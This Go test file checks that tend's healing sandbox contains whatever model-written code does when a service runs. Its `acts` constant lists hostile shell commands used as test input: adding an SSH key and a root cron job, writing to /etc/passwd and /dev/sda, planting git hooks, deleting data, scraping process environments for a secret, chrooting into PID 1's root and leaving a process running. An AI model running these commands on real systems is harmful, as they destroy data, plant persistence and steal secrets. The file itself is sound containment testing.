package view_test

import (
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tend-run/tend/internal/heal/view"
	"github.com/tend-run/tend/internal/lib/procfs"
	"github.com/tend-run/tend/internal/service/config"
	"github.com/tend-run/tend/internal/support/proctest"
	"github.com/tend-run/tend/internal/support/testbin"
	"github.com/tend-run/tend/internal/support/testdaemon"
	"github.com/tend-run/tend/process"
	"github.com/tend-run/tend/sdk/go"
)

var bin string

func TestMain(m *testing.M) {
	os.Exit(testbin.Main(func(dir string) int {
		bin = dir
		return m.Run()
	}, testbin.Released))
}

// snapshot is all that is below some directories.
func snapshot(t *testing.T, dirs ...string) map[string]string {
	t.Helper()
	all := map[string]string{}
	for _, dir := range dirs {
		proctest.Must(t, filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			info, err := d.Info()
			if err != nil {
				return err
			}
			text := fmt.Sprint(info.Mode())
			if info.Mode().IsRegular() {
				text += string(proctest.Value(os.ReadFile(path))(t))
			}
			all[path] = text
			return nil
		}))
	}
	return all
}

// acts are what code that a model wrote may do when the service starts with it.
const acts = `
echo KEY=stolen > .env; : > lib.sh; rm -rf data .git/refs; echo x > .git/hooks/post-checkout; git config core.fsmonitor 'touch pwned' ; echo x > new
mkdir -p ~/.ssh && echo x >> ~/.ssh/authorized_keys; echo '* * * * * root true' > /etc/cron.d/x; echo x >> /etc/passwd; echo x > /usr/local/bin/x
cd ..; mv app away; rm -rf home; ln -s /etc app; cd - > /dev/null 2>&1
kill -9 1 $DAEMON; for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ | grep CANARY; done
mount -t tmpfs none /tmp; mount -o remount,rw /usr; umount -l $ROOT; mknod b b 8 0; head -c 1 b; echo x > /proc/sys/kernel/hostname; chroot /proc/1/root true
(setsid sleep 1007 &); echo x > /dev/sda; python3 -c "import socket; socket.create_connection(('127.0.0.1', $PORT), 2).send(b'x')" && echo connected
`

// TestWhatARunDoesIsThrownAway: whatever a service does, with all its rights, neither the project nor
// the machine is another one afterwards, and nothing of it runs on. Of its own files it sees all.
func TestWhatARunDoesIsThrownAway(t *testing.T) {
	proctest.Root(t)
	base := proctest.Value(filepath.EvalSymlinks(proctest.Value(os.MkdirTemp("", "tend-view-"))(t)))(t)
	t.Cleanup(func() { os.RemoveAll(base) })
	root, home := filepath.Join(base, "app"), filepath.Join(base, "home")
	proctest.Must(t, errors.Join(os.MkdirAll(root+"/.git/hooks", 0o755), os.MkdirAll(root+"/.git/refs", 0o755),
		os.Mkdir(root+"/data", 0o755), os.Mkdir(home, 0o755)))
	for name, text := range map[string]string{".env": "KEY=own\n", "lib.sh": "exit 3\n", "data/orders": "1\n",
		"run.sh": ". ./.env; . ./lib.sh\n"} {
		proctest.Must(t, os.WriteFile(filepath.Join(root, name), []byte(text), 0o600))
	}
	l := proctest.Value(net.Listen("tcp", "127.0.0.1:0"))(t)
	defer l.Close()
	t.Setenv("CANARY", "canary-of-the-machine")
	d := testdaemon.Serve(t, testdaemon.Config{Command: []string{testbin.Released.Tend(bin)}})
	c := d.Connect(t)
	env := map[string]string{"PATH": os.Getenv("PATH"), "HOME": home, "ROOT": root, "DAEMON": fmt.Sprint(os.Getpid()),
		"PORT": fmt.Sprint(l.Addr().(*net.TCPAddr).Port)}
	rules := &config.Service{Cwd: root, Env: env, Command: config.Command{Argv: []string{"sh", "run.sh"}},
		Startup: &config.Probe{Log: "^ready"}}
	v := proctest.Value(view.Open(t.Context(), view.Config{Client: c, ID: "e1", Root: root, Rules: rules, Path: os.Getenv("PATH")}))(t)
	look := view.Look{Env: env, Start: time.Minute}

	before := snapshot(t, base)
	out := proctest.Value(v.Run(t.Context(), &view.Set{}, look))(t)
	if out.Well || out.Exit == nil || out.Exit.Code != 3 {
		t.Errorf("with nothing changed: %+v", out)
	}
	set := &view.Set{}
	set.Put(view.Change{Path: "lib.sh", Kind: view.File, Data: []byte("(" + acts + ") 2>&1; echo \"ready $KEY\"; exec sleep 1007\n")})
	out = proctest.Value(v.Run(t.Context(), set, look))(t)
	if !out.Well || !strings.Contains(out.Log, "ready own") {
		t.Errorf("with the acts: %+v", out)
	}
	for _, word := range []string{"connected", "canary-of"} {
		if strings.Contains(out.Log, word) {
			t.Errorf("it says %q:\n%s", word, out.Log)
		}
	}
	if after := snapshot(t, base); !maps.Equal(after, before) {
		t.Errorf("the tree is %q, and was %q", after, before)
	}
	for _, path := range []string{"/etc/cron.d/x", "/usr/local/bin/x"} {
		if _, err := os.Lstat(path); err == nil {
			t.Errorf("there is %s", path)
		}
	}
	// What must be true of the service beside its probes is tried beside it, and sees what it has written.
	for line, well := range map[string]bool{"test $(cat new) = x && ! test -e $ROOT/data": true, "echo 2 tests fail; exit 4": false} {
		look.Verify = &config.Hook{Command: config.Command{Line: line}, Timeout: config.Duration(time.Minute)}
		out = proctest.Value(v.Run(t.Context(), set, look))(t)
		if out.Well != well || !well && (!strings.Contains(out.Why, "healer.verify") || !strings.Contains(out.Log, "2 tests fail") || out.Exit.Code != 4) {
			t.Errorf("verified by %s: %+v", line, out)
		}
	}
	// A command has changed what it has, and nothing else is told; of what is hidden it sees nothing.
	ran, changed, err := v.Exec(t.Context(), set, []string{".env"}, process.Spec{Argv: []string{"sh", "-c",
		acts + "; cd " + root + "; cat .env; rm -r data; echo y > lib.sh"}, Env: env, Timeout: time.Minute})
	proctest.Must(t, err)
	got := map[string]view.Kind{}
	for _, one := range changed {
		got[one.Path] = one.Kind
	}
	if strings.Contains(ran.Output, "own") || got[".env"] != "" || got["lib.sh"] != view.File || got["data"] != view.Gone {
		t.Errorf("a command has changed %v, and says\n%s", got, ran.Output)
	}
	if after := snapshot(t, base); !maps.Equal(after, before) {
		t.Errorf("after a command the tree is %q, and was %q", after, before)
	}
	if all := proctest.Value(c.Sandboxes(t.Context(), tend.SandboxFilter{}))(t); len(all) != 0 {
		t.Errorf("what they ran in is left: %+v", all)
	}
	for _, pid := range proctest.Value(procfs.PIDs())(t) {
		if line, err := procfs.Read(pid, "cmdline"); err == nil && string(line) == "sleep\x001007\x00" {
			t.Errorf("pid %d is left", pid)
		}
	}
}

// TestWhatAKilledOwnerLeavesIsRemoved: a sandbox of its own, and no other.
func TestWhatAKilledOwnerLeavesIsRemoved(t *testing.T) {
	proctest.Root(t)
	d := testdaemon.Serve(t, testdaemon.Config{Command: []string{testbin.Released.Tend(bin)}})
	c := d.Connect(t)
	for _, id := range []string{"e1", "e2"} {
		proctest.Value(c.CreateSandbox(t.Context(), tend.SandboxSpec{Isolation: tend.IsolationFull,
			Metadata: map[string]string{"tend.heal": id}}))(t)
	}
	t.Setenv("TMPDIR", t.TempDir())
	proctest.Must(t, os.MkdirAll(filepath.Join(os.TempDir(), "tend-pass-e1-1"), 0o700))
	proctest.Must(t, os.MkdirAll(filepath.Join(os.TempDir(), "tend-pass-e2-1"), 0o700))
	proctest.Must(t, view.Sweep(t.Context(), c, "e1"))
	if left := proctest.Value(os.ReadDir(os.TempDir()))(t); len(left) != 1 || left[0].Name() != "tend-pass-e2-1" {
		t.Errorf("of directories of sockets there is %v", left)
	}
	all := proctest.Value(c.Sandboxes(t.Context(), tend.SandboxFilter{}))(t)
	if len(all) != 1 || all[0].Metadata["tend.heal"] != "e2" {
		t.Errorf("there are %+v", all)
	}
}
